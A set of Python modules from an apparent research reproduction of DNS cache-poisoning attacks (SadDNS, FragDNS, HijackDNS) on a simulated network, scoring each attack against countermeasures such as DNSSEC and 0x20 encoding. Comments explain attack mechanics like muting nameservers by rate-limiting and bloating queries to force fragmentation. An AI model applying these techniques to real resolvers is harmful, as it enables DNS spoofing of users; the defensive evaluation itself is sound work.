MITIGATION_BLOCK_FRAGMENTS = Mitigation(
    key="block-fragments",
    description="Resolver-side firewall drops all IP fragments",
    paper_section="6.1",
    resolver_host_overrides={"accept_fragments": False},
    defeats=("FragDNS",),
)

MITIGATION_PMTU_CLAMP = Mitigation(
    key="pmtu-clamp",
    description="Nameserver refuses PTB-advertised MTUs below 552",
    paper_section="6.1",
    ns_host_overrides={"min_accepted_mtu": LINUX_MIN_PMTU},
    defeats=("FragDNS",),
)

MITIGATION_NO_ICMP = Mitigation(
    key="no-icmp-errors",
    description="Resolver never sends ICMP port-unreachable",
    paper_section="6.1",
    resolver_host_overrides={"respond_port_unreachable": False},
    defeats=("SadDNS",),
)

MITIGATION_RANDOMIZED_ICMP_LIMIT = Mitigation(
    key="randomized-icmp-limit",
    description="Kernel randomises the global ICMP budget (CVE-2020-25705 fix)",
    paper_section="6.1",
    resolver_host_overrides={"icmp_limit_randomized": True},
    defeats=("SadDNS",),
)

MITIGATION_DNSSEC = Mitigation(
    key="dnssec",
    description="Target zone signed and resolver validates",
    paper_section="2.1/6",
    resolver_overrides={"validates_dnssec": True},
    signed_target=True,
    defeats=("HijackDNS", "SadDNS", "FragDNS"),
)

MITIGATION_ROV = Mitigation(
    key="rpki-rov",
    description="RPKI route-origin validation filters the hijack",
    paper_section="6.1 (Securing BGP)",
    defeats=("HijackDNS",),
)

ALL_MITIGATIONS = [
    MITIGATION_0X20,
    MITIGATION_RANDOMIZE_RECORDS,
    MITIGATION_BLOCK_FRAGMENTS,
    MITIGATION_PMTU_CLAMP,
    MITIGATION_NO_ICMP,
    MITIGATION_RANDOMIZED_ICMP_LIMIT,
    MITIGATION_DNSSEC,
    MITIGATION_ROV,
]
