"""Legacy entry points for the §6 ablation, on the defense-stack API.

.. deprecated::
    Kept so pre-defense-stack callers (and the old-vs-new parity tests)
    continue to work: every function delegates to
    :mod:`repro.defenses.ablation`, mapping each :class:`Mitigation`
    onto its registered :class:`repro.defenses.Defense` by key.  The
    delegation also removed this module's RPKI-ROV special case — ROV
    now filters the hijacked announcement through real
    :mod:`repro.bgp.rpki` origin validation instead of a
    ``capture_possible`` flag.

Cell seeds keep the old derivation (``{seed}-{attack}-{mitigation.key}``);
the SadDNS cells now race the long testbed name so the 0x20 verdict is
categorical rather than a per-seed coin flip.
"""

from __future__ import annotations

from repro.countermeasures.policies import ALL_MITIGATIONS, Mitigation
from repro.defenses.ablation import (
    ATTACK_NAMES,
    AblationCell,
    defended_scenario,
    evaluate_defense_matrix,
)
from repro.defenses.base import DefenseStack
from repro.scenario.spec import AttackScenario

__all__ = [
    "ATTACK_NAMES",
    "AblationCell",
    "evaluate_mitigation_matrix",
    "mitigated_scenario",
    "run_attack_under_mitigation",
]


def _stack_for(mitigation: Mitigation | None) -> DefenseStack:
    return DefenseStack() if mitigation is None \
        else DefenseStack.of(mitigation.as_defense())


def mitigated_scenario(attack: str, mitigation: Mitigation | None,
                       saddns_iterations: int = 400,
                       frag_attempts: int = 120) -> AttackScenario:
    """Declare one (attack, mitigation) cell as an executable scenario."""
    label = mitigation.key if mitigation is not None else "none"
    return defended_scenario(attack, _stack_for(mitigation), label=label,
                             saddns_iterations=saddns_iterations,
                             frag_attempts=frag_attempts)


def run_attack_under_mitigation(attack: str,
                                mitigation: Mitigation | None,
                                seed: str = "ablation",
                                saddns_iterations: int = 400,
                                frag_attempts: int = 120) -> bool:
    """Execute one attack on a testbed with the mitigation applied.

    Returns whether the attack succeeded.  SadDNS/FragDNS budgets are
    large enough that an un-mitigated attack succeeds with high
    probability while a defeated one cannot succeed at all (the
    mitigations are categorical, not probabilistic).
    """
    label = mitigation.key if mitigation is not None else "none"
    scenario = mitigated_scenario(attack, mitigation,
                                  saddns_iterations=saddns_iterations,
                                  frag_attempts=frag_attempts)
    return scenario.run(seed=f"{seed}-{attack}-{label}").success


def evaluate_mitigation_matrix(mitigations: list[Mitigation] | None = None,
                               seed: str = "ablation",
                               saddns_iterations: int = 400,
                               frag_attempts: int = 120
                               ) -> list[AblationCell]:
    """The full (attack x mitigation) ablation grid."""
    chosen = mitigations if mitigations is not None else ALL_MITIGATIONS
    return evaluate_defense_matrix(
        [_stack_for(mitigation) for mitigation in chosen],
        seed=seed,
        saddns_iterations=saddns_iterations,
        frag_attempts=frag_attempts,
    )
