"""Run the attacks with and without each mitigation (the §6 ablation).

The paper recommends countermeasures without a quantitative table; this
module turns the recommendations into an executable ablation: every
(attack, mitigation) pair is run on a fresh standard testbed and the
outcome compared against the mitigation's stated expectation.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.attacks.fragdns import FragDnsConfig
from repro.attacks.saddns import SadDnsConfig
from repro.countermeasures.policies import ALL_MITIGATIONS, Mitigation
from repro.dns.nameserver import NameserverConfig
from repro.dns.records import rr_a
from repro.netsim.host import HostConfig
from repro.scenario.spec import AttackScenario
from repro.testbed import FRAG_TARGET_NAME

ATTACK_NAMES = ("HijackDNS", "SadDNS", "FragDNS")


@dataclass
class AblationCell:
    """Outcome of one (attack, mitigation) pair."""

    attack: str
    mitigation: str
    attack_succeeded: bool
    expected_defeated: bool

    @property
    def matches_expectation(self) -> bool:
        """True when reality agrees with the Section 6 claim."""
        return self.attack_succeeded != self.expected_defeated


def _attack_friendly_bases(attack: str) -> dict:
    """Base configs that make the given attack succeed un-mitigated.

    The resolver's ephemeral port range is narrowed so the probabilistic
    attacks converge in seconds: the mitigations under test are
    categorical (they reduce the success probability to zero), so the
    smaller search space does not change any verdict.
    """
    resolver_host = HostConfig(ephemeral_low=20000, ephemeral_high=24095)
    if attack == "SadDNS":
        return {"base_ns": NameserverConfig(rrl_enabled=True),
                "base_resolver_host": resolver_host}
    if attack == "FragDNS":
        return {"base_ns_host": HostConfig(ipid_policy="global",
                                           min_accepted_mtu=68),
                "base_resolver_host": resolver_host}
    return {"base_resolver_host": resolver_host}


def mitigated_scenario(attack: str, mitigation: Mitigation | None,
                       saddns_iterations: int = 400,
                       frag_attempts: int = 120) -> AttackScenario:
    """Declare one (attack, mitigation) cell as an executable scenario."""
    bases = _attack_friendly_bases(attack)
    if mitigation is not None:
        kwargs = mitigation.testbed_kwargs(
            base_ns=bases.get("base_ns"),
            base_ns_host=bases.get("base_ns_host"),
            base_resolver_host=bases.get("base_resolver_host"),
        )
        world_overrides = dict(
            resolver_config=kwargs["resolver_config"],
            ns_config=kwargs["ns_config"],
            ns_host_config=kwargs["ns_host_config"],
            resolver_host_config=kwargs["host_config"],
            signed_target=kwargs["signed_target"],
        )
    else:
        world_overrides = dict(
            ns_config=bases.get("base_ns"),
            ns_host_config=bases.get("base_ns_host"),
            resolver_host_config=bases.get("base_resolver_host"),
        )
    label = mitigation.key if mitigation is not None else "none"
    if attack == "HijackDNS":
        capture_possible = mitigation is None or "HijackDNS" not in (
            mitigation.defeats if mitigation.key == "rpki-rov" else ()
        )
        return AttackScenario(
            method="HijackDNS", label=f"HijackDNS vs {label}",
            capture_possible=capture_possible, **world_overrides,
        )
    if attack == "SadDNS":
        return AttackScenario(
            method="SadDNS", label=f"SadDNS vs {label}",
            attack_config=SadDnsConfig(max_iterations=saddns_iterations),
            **world_overrides,
        )
    if attack == "FragDNS":
        # A multi-address answer (a multi-homed service) gives the
        # record-order randomisation countermeasure something to
        # shuffle: with six records there are 720 possible second
        # fragments, taking the per-attempt checksum-match probability
        # far below the attempt budget.
        return AttackScenario(
            method="FragDNS", label=f"FragDNS vs {label}",
            qname=FRAG_TARGET_NAME,
            extra_target_records=tuple(
                rr_a(FRAG_TARGET_NAME, f"123.0.0.{81 + index}", ttl=300)
                for index in range(5)
            ),
            attack_config=FragDnsConfig(max_attempts=frag_attempts,
                                        attempt_spacing=0.2),
            **world_overrides,
        )
    raise ValueError(f"unknown attack {attack!r}")


def run_attack_under_mitigation(attack: str,
                                mitigation: Mitigation | None,
                                seed: str = "ablation",
                                saddns_iterations: int = 400,
                                frag_attempts: int = 120) -> bool:
    """Execute one attack on a testbed with the mitigation applied.

    Returns whether the attack succeeded.  SadDNS/FragDNS budgets are
    large enough that an un-mitigated attack succeeds with high
    probability while a defeated one cannot succeed at all (the
    mitigations are categorical, not probabilistic).
    """
    label = mitigation.key if mitigation is not None else "none"
    scenario = mitigated_scenario(attack, mitigation,
                                  saddns_iterations=saddns_iterations,
                                  frag_attempts=frag_attempts)
    return scenario.run(seed=f"{seed}-{attack}-{label}").success


def evaluate_mitigation_matrix(mitigations: list[Mitigation] | None = None,
                               seed: str = "ablation",
                               saddns_iterations: int = 400,
                               frag_attempts: int = 120
                               ) -> list[AblationCell]:
    """The full (attack x mitigation) ablation grid."""
    cells: list[AblationCell] = []
    chosen = mitigations if mitigations is not None else ALL_MITIGATIONS
    for attack in ATTACK_NAMES:
        for mitigation in chosen:
            succeeded = run_attack_under_mitigation(
                attack, mitigation, seed=seed,
                saddns_iterations=saddns_iterations,
                frag_attempts=frag_attempts,
            )
            cells.append(AblationCell(
                attack=attack, mitigation=mitigation.key,
                attack_succeeded=succeeded,
                expected_defeated=attack in mitigation.defeats,
            ))
    return cells
