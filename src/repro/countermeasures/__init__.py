"""Section 6 countermeasures and their evaluation."""

from repro.countermeasures.policies import (
    ALL_MITIGATIONS,
    Mitigation,
    MITIGATION_0X20,
    MITIGATION_BLOCK_FRAGMENTS,
    MITIGATION_DNSSEC,
    MITIGATION_NO_ICMP,
    MITIGATION_PMTU_CLAMP,
    MITIGATION_RANDOMIZED_ICMP_LIMIT,
    MITIGATION_RANDOMIZE_RECORDS,
    MITIGATION_ROV,
)
from repro.countermeasures.evaluation import (
    AblationCell,
    evaluate_mitigation_matrix,
    run_attack_under_mitigation,
)

__all__ = [
    "ALL_MITIGATIONS",
    "AblationCell",
    "MITIGATION_0X20",
    "MITIGATION_BLOCK_FRAGMENTS",
    "MITIGATION_DNSSEC",
    "MITIGATION_NO_ICMP",
    "MITIGATION_PMTU_CLAMP",
    "MITIGATION_RANDOMIZED_ICMP_LIMIT",
    "MITIGATION_RANDOMIZE_RECORDS",
    "MITIGATION_ROV",
    "Mitigation",
    "evaluate_mitigation_matrix",
    "run_attack_under_mitigation",
]
