"""Authoritative nameserver bound to a simulated host.

Implements the server-side behaviours the paper measures and abuses:

* response-rate-limiting (RRL) — the property SadDNS exploits to "mute"
  the genuine nameserver (Section 5.2.2 probes it with a 4000-query
  burst);
* ANY query handling and response bloating — what makes responses exceed
  the path MTU so FragDNS gets fragments at all;
* PMTUD acceptance and minimum fragment size — inherited from the
  underlying :class:`~repro.netsim.host.Host` config;
* record-order randomisation — the Section 6 countermeasure that breaks
  UDP-checksum prediction.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.message import (
    DnsMessage,
    RCODE_NOERROR,
    RCODE_NOTIMP,
    RCODE_NXDOMAIN,
    RCODE_REFUSED,
)
from repro.dns.records import (
    QTYPE_ANY,
    TYPE_A,
    TYPE_NS,
    TYPE_SOA,
    ResourceRecord,
)
from repro.dns.wire import decode_message, encode_message
from repro.dns.zones import Zone, ZoneSet
from repro.netsim.host import Host, UdpSocket
from repro.netsim.packet import UdpDatagram
from repro.netsim.ratelimit import TokenBucket

DNS_PORT = 53


@dataclass
class NameserverConfig:
    """Behaviour switches for one authoritative server."""

    rrl_enabled: bool = False
    rrl_rate: float = 10.0          # responses per second once limited
    rrl_burst: float = 20.0
    supports_any: bool = True
    randomize_record_order: bool = False
    pad_txt_to: int = 0             # pad responses with TXT filler bytes
    serve_tcp: bool = True
    max_udp_response: int = 4096    # clamp to the client's EDNS size too


@dataclass
class NameserverStats:
    """Query/response accounting."""

    queries: int = 0
    responses: int = 0
    rate_limited: int = 0
    refused: int = 0
    nxdomain: int = 0
    referrals: int = 0


class AuthoritativeServer:
    """Serves a :class:`ZoneSet` over simulated UDP (and TCP fallback)."""

    def __init__(self, host: Host, zones: ZoneSet | None = None,
                 config: NameserverConfig | None = None,
                 rng: DeterministicRNG | None = None):
        self.host = host
        self.zones = zones if zones is not None else ZoneSet()
        self.config = config if config is not None else NameserverConfig()
        self.rng = rng if rng is not None else DeterministicRNG(host.name)
        self.stats = NameserverStats()
        self._rrl_bucket: TokenBucket | None = (
            TokenBucket(self.config.rrl_rate, self.config.rrl_burst)
            if self.config.rrl_enabled else None
        )
        self.socket: UdpSocket = host.open_udp(DNS_PORT, self._on_datagram)
        if self.config.serve_tcp:
            host.stream_handlers[DNS_PORT] = self._on_stream

    def add_zone(self, zone: Zone) -> Zone:
        """Register an additional zone on this server."""
        return self.zones.add(zone)

    # -- transport ---------------------------------------------------------

    def _on_datagram(self, datagram: UdpDatagram, src: str, dst: str) -> None:
        try:
            query = decode_message(datagram.payload)
        except Exception:
            return  # malformed queries are dropped silently
        if query.is_response:
            return
        self.stats.queries += 1
        if self._rrl_bucket is not None and not self._rrl_bucket.allow(
                self.host.now):
            self.stats.rate_limited += 1
            return  # muted: this is the window SadDNS races inside
        response = self.build_response(query, via_tcp=False, client=src)
        self.stats.responses += 1
        self.socket.sendto(src, datagram.sport, encode_message(response),
                           df=False)

    def _on_stream(self, payload: bytes, src: str) -> bytes | None:
        try:
            query = decode_message(payload)
        except Exception:
            return None
        self.stats.queries += 1
        response = self.build_response(query, via_tcp=True, client=src)
        self.stats.responses += 1
        return encode_message(response)

    # -- response construction ----------------------------------------------

    def build_response(self, query: DnsMessage, via_tcp: bool = False,
                       client: str = "") -> DnsMessage:
        """Construct the authoritative answer for ``query``."""
        response = query.reply_skeleton()
        response.authoritative = True
        question = query.question
        if question is None:
            response.rcode = RCODE_NOTIMP
            return response
        if question.qtype == QTYPE_ANY and not self.config.supports_any:
            # Unbound-style: refuse ANY entirely (RFC 8482 behaviour).
            response.rcode = RCODE_NOTIMP
            self.stats.refused += 1
            return response
        zone = self.zones.zone_for(question.name)
        if zone is None:
            response.rcode = RCODE_REFUSED
            self.stats.refused += 1
            return response
        delegation = zone.delegation_for(question.name)
        if delegation is not None:
            child, ns_records = delegation
            response.authoritative = False
            response.authority.extend(ns_records)
            for ns in ns_records:
                response.additional.extend(
                    r for r in zone.records
                    if r.rtype == TYPE_A
                    and names.same_name(r.name, str(ns.data))
                )
            self.stats.referrals += 1
            return self._finish(response, query, via_tcp)
        answers = zone.lookup(question.name, question.qtype)
        if answers:
            response.answers.extend(answers)
            response.rcode = RCODE_NOERROR
        elif zone.has_name(question.name):
            response.rcode = RCODE_NOERROR  # NODATA
            response.authority.extend(zone.lookup(zone.origin, TYPE_SOA))
        else:
            response.rcode = RCODE_NXDOMAIN
            response.authority.extend(zone.lookup(zone.origin, TYPE_SOA))
            self.stats.nxdomain += 1
        return self._finish(response, query, via_tcp)

    def _finish(self, response: DnsMessage, query: DnsMessage,
                via_tcp: bool) -> DnsMessage:
        if self.config.pad_txt_to and response.answers:
            current = len(encode_message(response))
            filler = self.config.pad_txt_to - current
            if filler > 40:
                response.additional.append(ResourceRecord(
                    "padding.invalid", 16, 0, "x" * min(filler - 16, 4000)
                ))
        if self.config.randomize_record_order:
            # Response randomisation (§6.1): rotate records *and* jitter
            # the answer TTLs per response.  Pure rrset rotation alone
            # would leave the UDP checksum invariant (one's-complement
            # sums are permutation-invariant over aligned words), so the
            # TTL jitter is what actually makes the second fragment's
            # checksum unpredictable to a FragDNS attacker.
            import dataclasses

            self.rng.shuffle(response.answers)
            self.rng.shuffle(response.additional)
            response.answers = [
                dataclasses.replace(
                    record, ttl=max(1, record.ttl
                                    - self.rng.randint(0, 255)))
                for record in response.answers
            ]
        if not via_tcp:
            limit = min(
                self.config.max_udp_response,
                query.edns_udp_size if query.edns_udp_size else 512,
            )
            if len(encode_message(response)) > limit:
                # Too big for the client's buffer: truncate so it retries
                # over TCP.  (Fragmentation happens at the IP layer when
                # the *path* is too small, not here.)
                response.answers.clear()
                response.authority.clear()
                response.additional.clear()
                response.truncated = True
        return response

    # -- attack-surface helpers ----------------------------------------------

    @property
    def address(self) -> str:
        """Primary address of the underlying host."""
        return self.host.address

    def is_muted(self, now: float) -> bool:
        """True while RRL would drop the next response."""
        if self._rrl_bucket is None:
            return False
        return self._rrl_bucket.peek(now) < 1.0
