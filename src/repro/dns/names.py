"""Domain-name handling: normalisation, subdomain math, 0x20 encoding.

Names are handled as presentation-form strings without the trailing dot
(``"ns1.vict.im"``); the root is the empty string.  Comparison is always
case-insensitive per RFC 1035, but *case itself is preserved* through the
resolver pipeline because 0x20 encoding (Dagon et al., used as a
countermeasure in Section 6 of the paper) turns the query's case pattern
into entropy the attacker must guess.
"""

from __future__ import annotations

from repro.core.rng import DeterministicRNG

MAX_NAME_LENGTH = 255
MAX_LABEL_LENGTH = 63


def normalise(name: str) -> str:
    """Canonical lowercase form without the trailing dot."""
    return name.rstrip(".").lower()


def labels_of(name: str) -> list[str]:
    """Split a name into labels, most-specific first.  Root gives []."""
    name = name.rstrip(".")
    if not name:
        return []
    return name.split(".")


def validate(name: str) -> None:
    """Raise ``ValueError`` if the name violates RFC 1035 length limits."""
    stripped = name.rstrip(".")
    if len(stripped) > MAX_NAME_LENGTH - 1:
        raise ValueError(f"name too long ({len(stripped)} chars): {name!r}")
    for label in labels_of(stripped):
        if not label:
            raise ValueError(f"empty label in {name!r}")
        if len(label) > MAX_LABEL_LENGTH:
            raise ValueError(f"label too long in {name!r}: {label!r}")


def is_subdomain(name: str, ancestor: str) -> bool:
    """True if ``name`` equals or lies under ``ancestor`` (bailiwick test).

    >>> is_subdomain("ns1.vict.im", "vict.im")
    True
    >>> is_subdomain("vict.im", "vict.im")
    True
    >>> is_subdomain("evil.com", "vict.im")
    False
    """
    name_l = labels_of(normalise(name))
    anc_l = labels_of(normalise(ancestor))
    if len(anc_l) > len(name_l):
        return False
    return name_l[len(name_l) - len(anc_l):] == anc_l


def parent_of(name: str) -> str:
    """The name with its leftmost label removed; '' for TLDs and root."""
    parts = labels_of(name)
    return ".".join(parts[1:])


def encode_0x20(name: str, rng: DeterministicRNG) -> str:
    """Randomise the case of every alphabetic character (0x20 encoding).

    Each letter contributes one bit of entropy that a spoofed response
    must reproduce, which is what makes SadDNS "no longer viable"
    against 0x20-protected queries (paper Section 6.1).
    """
    out = []
    for char in name:
        if char.isalpha():
            out.append(char.upper() if rng.chance(0.5) else char.lower())
        else:
            out.append(char)
    return "".join(out)


def case_entropy_bits(name: str) -> int:
    """Number of alphabetic characters = 0x20 entropy bits of the name."""
    return sum(1 for c in name if c.isalpha())


def same_name(a: str, b: str) -> bool:
    """Case-insensitive name equality."""
    return normalise(a) == normalise(b)


def case_matches(query_name: str, response_name: str) -> bool:
    """Exact (case-preserving) match used by 0x20-validating resolvers."""
    return query_name.rstrip(".") == response_name.rstrip(".")


def random_label(rng: DeterministicRNG, length: int = 12) -> str:
    """A random lowercase a-z label (used for cache-busting subqueries)."""
    alphabet = "abcdefghijklmnopqrstuvwxyz"
    return "".join(rng.choice(alphabet) for _ in range(length))


def bloat_name(base: str, total_length: int = MAX_NAME_LENGTH - 1,
               rng: DeterministicRNG | None = None) -> str:
    """Prepend subdomain labels until the name approaches ``total_length``.

    This reproduces the paper's "bloat query" trick (Section 5.2.2): a
    longer qname is echoed in the question section of the response, which
    pushes the response size over the nameserver's fragmentation limit.
    Labels are capped at 63 chars and the result at 254 chars.
    """
    rng = rng if rng is not None else DeterministicRNG("bloat")
    name = base.rstrip(".")
    while len(name) < total_length:
        room = total_length - len(name) - 1  # dot separator
        if room < 1:
            break
        label = random_label(rng, min(MAX_LABEL_LENGTH, room))
        name = f"{label}.{name}"
    validate(name)
    return name
