"""The DNS substrate: wire format, zones, servers, resolvers, caches.

Everything the paper's attack surface consists of lives here: the
recursive resolver with its RFC 5452 defences, the authoritative
nameserver with rate-limiting and fragmentation-relevant behaviour,
forwarders, stub clients, the TTL/bailiwick cache, and the behaviour
presets for the implementations the paper tested (Table 5).
"""

from repro.dns.cache import CacheEntry, DnsCache
from repro.dns.dnssec import DnssecRegistry, validate_rrsets
from repro.dns.forwarder import Forwarder
from repro.dns.impls import (
    ALL_IMPLEMENTATIONS,
    BIND_9_14,
    DNSMASQ_2_79,
    ImplementationProfile,
    POWERDNS_4_3,
    SYSTEMD_RESOLVED_245,
    UNBOUND_1_9,
)
from repro.dns.message import (
    DnsMessage,
    Question,
    RCODE_NOERROR,
    RCODE_NXDOMAIN,
    RCODE_REFUSED,
    RCODE_SERVFAIL,
    make_query,
)
from repro.dns.nameserver import (
    AuthoritativeServer,
    DNS_PORT,
    NameserverConfig,
)
from repro.dns.records import (
    QTYPE_ANY,
    ResourceRecord,
    TYPE_A,
    TYPE_CNAME,
    TYPE_MX,
    TYPE_NAPTR,
    TYPE_NS,
    TYPE_SRV,
    TYPE_TXT,
    rr_a,
    rr_cname,
    rr_mx,
    rr_naptr,
    rr_ns,
    rr_soa,
    rr_srv,
    rr_txt,
)
from repro.dns.resolver import (
    RecursiveResolver,
    ResolutionResult,
    ResolverConfig,
)
from repro.dns.stub import LookupAnswer, StubResolver
from repro.dns.wire import decode_message, encode_message
from repro.dns.zones import Zone, ZoneSet

__all__ = [
    "ALL_IMPLEMENTATIONS",
    "AuthoritativeServer",
    "BIND_9_14",
    "CacheEntry",
    "DNSMASQ_2_79",
    "DNS_PORT",
    "DnsCache",
    "DnsMessage",
    "DnssecRegistry",
    "Forwarder",
    "ImplementationProfile",
    "LookupAnswer",
    "NameserverConfig",
    "POWERDNS_4_3",
    "QTYPE_ANY",
    "Question",
    "RCODE_NOERROR",
    "RCODE_NXDOMAIN",
    "RCODE_REFUSED",
    "RCODE_SERVFAIL",
    "RecursiveResolver",
    "ResolutionResult",
    "ResolverConfig",
    "ResourceRecord",
    "SYSTEMD_RESOLVED_245",
    "StubResolver",
    "TYPE_A",
    "TYPE_CNAME",
    "TYPE_MX",
    "TYPE_NAPTR",
    "TYPE_NS",
    "TYPE_SRV",
    "TYPE_TXT",
    "UNBOUND_1_9",
    "Zone",
    "ZoneSet",
    "decode_message",
    "encode_message",
    "make_query",
    "rr_a",
    "rr_cname",
    "rr_mx",
    "rr_naptr",
    "rr_ns",
    "rr_soa",
    "rr_srv",
    "rr_txt",
    "validate_rrsets",
]
