"""Resource record model and record-type registry.

Rdata is stored in parsed (presentation) form on :class:`ResourceRecord`
instances; the byte encodings live in :mod:`repro.dns.wire`.  The types
implemented are exactly those the paper's attacks inject or downgrade
(Table 1): A, AAAA, NS, CNAME, SOA, MX, TXT, SRV, NAPTR, IPSECKEY, plus
the DNSSEC presence markers (RRSIG, DNSKEY, DS) and OPT for EDNS.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

# RR type codes (RFC 1035 and successors).
TYPE_A = 1
TYPE_NS = 2
TYPE_CNAME = 5
TYPE_SOA = 6
TYPE_PTR = 12
TYPE_MX = 15
TYPE_TXT = 16
TYPE_AAAA = 28
TYPE_SRV = 33
TYPE_NAPTR = 35
TYPE_OPT = 41
TYPE_DS = 43
TYPE_IPSECKEY = 45
TYPE_RRSIG = 46
TYPE_DNSKEY = 48
QTYPE_ANY = 255

TYPE_NAMES = {
    TYPE_A: "A",
    TYPE_NS: "NS",
    TYPE_CNAME: "CNAME",
    TYPE_SOA: "SOA",
    TYPE_PTR: "PTR",
    TYPE_MX: "MX",
    TYPE_TXT: "TXT",
    TYPE_AAAA: "AAAA",
    TYPE_SRV: "SRV",
    TYPE_NAPTR: "NAPTR",
    TYPE_OPT: "OPT",
    TYPE_DS: "DS",
    TYPE_IPSECKEY: "IPSECKEY",
    TYPE_RRSIG: "RRSIG",
    TYPE_DNSKEY: "DNSKEY",
    QTYPE_ANY: "ANY",
}

NAME_TYPES = {name: code for code, name in TYPE_NAMES.items()}


def type_name(code: int) -> str:
    """Presentation name for an RR type code ('TYPE123' if unknown)."""
    return TYPE_NAMES.get(code, f"TYPE{code}")


def type_code(name: str) -> int:
    """RR type code for a presentation name."""
    upper = name.upper()
    if upper in NAME_TYPES:
        return NAME_TYPES[upper]
    if upper.startswith("TYPE"):
        return int(upper[4:])
    raise ValueError(f"unknown record type: {name!r}")


@dataclass(frozen=True)
class ResourceRecord:
    """One DNS resource record.

    ``data`` holds presentation-form rdata whose shape depends on the
    type: a string for A/NS/CNAME/PTR/TXT, a tuple for the structured
    types (see :mod:`repro.dns.wire` for the exact layouts).
    """

    name: str
    rtype: int
    ttl: int
    data: Any

    def __post_init__(self) -> None:
        if self.ttl < 0:
            raise ValueError(f"negative TTL: {self.ttl}")

    @property
    def rtype_name(self) -> str:
        """Presentation name of the type."""
        return type_name(self.rtype)

    def describe(self) -> str:
        """Zone-file-like one-liner."""
        return f"{self.name} {self.ttl} {self.rtype_name} {self.data!r}"


def rr_a(name: str, address: str, ttl: int = 300) -> ResourceRecord:
    """Build an A record."""
    return ResourceRecord(name, TYPE_A, ttl, address)


def rr_ns(name: str, target: str, ttl: int = 300) -> ResourceRecord:
    """Build an NS record."""
    return ResourceRecord(name, TYPE_NS, ttl, target)


def rr_cname(name: str, target: str, ttl: int = 300) -> ResourceRecord:
    """Build a CNAME record."""
    return ResourceRecord(name, TYPE_CNAME, ttl, target)


def rr_mx(name: str, preference: int, exchange: str,
          ttl: int = 300) -> ResourceRecord:
    """Build an MX record."""
    return ResourceRecord(name, TYPE_MX, ttl, (preference, exchange))


def rr_txt(name: str, text: str, ttl: int = 300) -> ResourceRecord:
    """Build a TXT record."""
    return ResourceRecord(name, TYPE_TXT, ttl, text)


def rr_srv(name: str, priority: int, weight: int, port: int, target: str,
           ttl: int = 300) -> ResourceRecord:
    """Build an SRV record."""
    return ResourceRecord(name, TYPE_SRV, ttl, (priority, weight, port, target))


def rr_naptr(name: str, order: int, preference: int, flags: str,
             service: str, regexp: str, replacement: str,
             ttl: int = 300) -> ResourceRecord:
    """Build a NAPTR record (used by RADIUS dynamic peer discovery)."""
    return ResourceRecord(
        name, TYPE_NAPTR, ttl,
        (order, preference, flags, service, regexp, replacement),
    )


def rr_soa(name: str, mname: str, rname: str, serial: int = 1,
           refresh: int = 3600, retry: int = 600, expire: int = 86400,
           minimum: int = 60, ttl: int = 300) -> ResourceRecord:
    """Build an SOA record."""
    return ResourceRecord(
        name, TYPE_SOA, ttl,
        (mname, rname, serial, refresh, retry, expire, minimum),
    )


def rr_ipseckey(name: str, gateway: str, public_key: str = "mock-key",
                ttl: int = 300) -> ResourceRecord:
    """Build a (simplified) IPSECKEY record for opportunistic IPsec."""
    return ResourceRecord(name, TYPE_IPSECKEY, ttl, (gateway, public_key))


def rr_rrsig(name: str, covered_type: int, signer: str,
             valid: bool = True, digest: str = "",
             ttl: int = 300) -> ResourceRecord:
    """Build a modelled RRSIG.

    ``valid`` models whether the signature cryptographically verifies
    (off-path attackers can never set it truthfully) and ``digest``
    binds the signature to the covered rrset's rdata, so that
    tampering with record bytes after signing — e.g. by a spliced
    fragment — is detected by validating resolvers.
    """
    return ResourceRecord(name, TYPE_RRSIG, ttl,
                          (covered_type, signer, valid, digest))


def rrset_digest(records: list["ResourceRecord"]) -> str:
    """Canonical digest over an rrset's rdata (the signed content)."""
    import hashlib

    canonical = sorted(
        f"{r.name.lower()}|{r.rtype}|{r.data!r}" for r in records
    )
    return hashlib.sha256("\n".join(canonical).encode()).hexdigest()[:16]


@dataclass
class RRSet:
    """All records sharing (name, type); the unit of caching."""

    name: str
    rtype: int
    records: list[ResourceRecord] = field(default_factory=list)

    @property
    def ttl(self) -> int:
        """Minimum TTL across the set (what a cache should honour)."""
        if not self.records:
            return 0
        return min(r.ttl for r in self.records)

    def add(self, record: ResourceRecord) -> None:
        """Append a record; name/type must match the set."""
        if record.rtype != self.rtype:
            raise ValueError("record type does not match RRSet")
        self.records.append(record)


def group_rrsets(records: list[ResourceRecord]) -> list[RRSet]:
    """Group a record list into RRSets, preserving first-seen order."""
    sets: dict[tuple[str, int], RRSet] = {}
    order: list[tuple[str, int]] = []
    for record in records:
        key = (record.name.lower(), record.rtype)
        if key not in sets:
            sets[key] = RRSet(record.name, record.rtype)
            order.append(key)
        sets[key].records.append(record)
    return [sets[key] for key in order]
