"""DNS message model (header, question, sections, EDNS).

The challenge-response fields the paper's attacks guess or bypass — the
16-bit TXID, the question name's exact case, the EDNS advertised UDP
payload size — are all first-class here.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from repro.dns.records import ResourceRecord, type_name

RCODE_NOERROR = 0
RCODE_FORMERR = 1
RCODE_SERVFAIL = 2
RCODE_NXDOMAIN = 3
RCODE_NOTIMP = 4
RCODE_REFUSED = 5

RCODE_NAMES = {
    RCODE_NOERROR: "NOERROR",
    RCODE_FORMERR: "FORMERR",
    RCODE_SERVFAIL: "SERVFAIL",
    RCODE_NXDOMAIN: "NXDOMAIN",
    RCODE_NOTIMP: "NOTIMP",
    RCODE_REFUSED: "REFUSED",
}


@dataclass(frozen=True)
class Question:
    """The question section entry: name (case preserved!) and qtype."""

    name: str
    qtype: int

    @property
    def qtype_name(self) -> str:
        """Presentation name of the qtype."""
        return type_name(self.qtype)


@dataclass
class DnsMessage:
    """A DNS query or response.

    ``edns_udp_size`` of ``None`` means no OPT record is attached; a
    value advertises the sender's reassembly buffer per EDNS0, which is
    the resolver-side half of the Figure 4 measurement.
    """

    txid: int = 0
    is_response: bool = False
    authoritative: bool = False
    truncated: bool = False
    recursion_desired: bool = True
    recursion_available: bool = False
    rcode: int = RCODE_NOERROR
    questions: list[Question] = field(default_factory=list)
    answers: list[ResourceRecord] = field(default_factory=list)
    authority: list[ResourceRecord] = field(default_factory=list)
    additional: list[ResourceRecord] = field(default_factory=list)
    edns_udp_size: int | None = None
    dnssec_ok: bool = False

    def __post_init__(self) -> None:
        if not 0 <= self.txid <= 0xFFFF:
            raise ValueError(f"TXID out of range: {self.txid}")

    @property
